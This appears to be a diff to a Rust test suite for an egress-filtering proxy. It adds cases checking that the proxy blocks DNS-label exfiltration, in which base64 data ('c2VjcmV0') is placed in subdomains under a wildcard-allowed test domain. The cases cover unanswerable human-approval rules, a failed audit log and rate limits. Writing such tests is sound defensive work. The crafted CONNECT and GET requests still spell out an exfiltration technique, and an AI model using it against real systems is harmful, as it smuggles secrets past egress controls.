@@ -5,8 +5,9 @@ use crate::lab::Due::{Held, Refused};
 use crate::lab::Trip::{Answer, Asked, Logged, Mark};
 use crate::lab::{Attack, Case, Lab, Setup};
 use crate::world::Ports;
-use model::{Effect, EgressRule};
+use model::{Effect, EgressRule, Sight};
 use std::sync::Arc;
+use std::sync::atomic::Ordering;
 
 /// Every name below `wild.test`, but not `bad.wild.test`.
 fn wild(ports: Ports) -> Setup {
@@ -15,6 +16,13 @@ fn wild(ports: Ports) -> Setup {
     let host = model::HostName::parse("bad.wild.test").unwrap().into();
     let deny = EgressRule { id, host, effect: Effect::Deny, ..setup.rules[0].clone() };
     setup.rules.push(deny);
+    setup
+}
+
+/// Names below `wild.test` that a human must permit, and nobody is there.
+fn asking(ports: Ports) -> Setup {
+    let mut setup = pattern(ports, "*.wild.test");
+    setup.rules[0].effect = Effect::Ask;
     setup
 }
 
@@ -163,6 +171,43 @@ pub(super) const CASES: &[Case] = &[
         Held("no question leads to a name server"),
     ),
     says(
+        "dns: data in labels below a wildcard that a human must permit, a request",
+        asking,
+        "CONNECT c2VjcmV0.wild.test:{P} HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\n\
+         GET / HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\n",
+        Asked("c2VjcmV0"),
+        Refused("nobody can be asked"),
+    ),
+    says(
+        "dns: data in labels below a wildcard that a human must permit, a tunnel",
+        |ports| {
+            let mut setup = asking(ports);
+            setup.rules[0].sight = Sight::Tcp;
+            setup
+        },
+        "CONNECT c2VjcmV0.wild.test:{P} HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\nx",
+        Asked("c2VjcmV0"),
+        Refused("nobody can be asked"),
+    ),
+    Case {
+        name: "dns: data in labels below a wildcard while the log takes no record",
+        setup: wild,
+        attack: Attack::Does(|lab| Box::pin(unrecorded(lab))),
+        trip: Asked("c2VjcmV0"),
+        due: Held("no name is looked up before its intent is durable"),
+    },
+    Case {
+        name: "dns: more names below a wildcard than the rule's rate",
+        setup: |ports| {
+            let mut setup = wild(ports);
+            setup.rules[0].limits.max_per_minute = Some(2);
+            setup
+        },
+        attack: Attack::Does(|lab| Box::pin(spelt_out(lab))),
+        trip: Asked("c2VjcmV0"),
+        due: Refused("in a minute"),
+    },
+    says(
         "dns: an address as a name",
         plain,
         "GET /.nanoclaw/name/127.0.0.2 HTTP/1.1\r\nHost: x\r\n\r\n",
@@ -184,6 +229,20 @@ pub(super) const CASES: &[Case] = &[
         due: Refused("dns: "),
     },
 ];
+
+async fn unrecorded(lab: Arc<Lab>) {
+    lab.sink.broken.store(true, Ordering::SeqCst);
+    lab.say("GET http://c2VjcmV0.wild.test:{P}/ HTTP/1.1\r\nHost: c2VjcmV0.wild.test:{P}\r\n\r\n")
+        .await;
+}
+
+async fn spelt_out(lab: Arc<Lab>) {
+    for (nth, name) in ["a.wild.test", "b.wild.test", "c2VjcmV0.wild.test"].iter().enumerate() {
+        let request = format!("GET http://{name}:{{P}}/ HTTP/1.1\r\nHost: {name}:{{P}}\r\n\r\n");
+        lab.say(&request).await;
+        lab.answered(nth + 1).await;
+    }
+}
 
 async fn flood(lab: Arc<Lab>) {
     const NAMES: usize = 600;
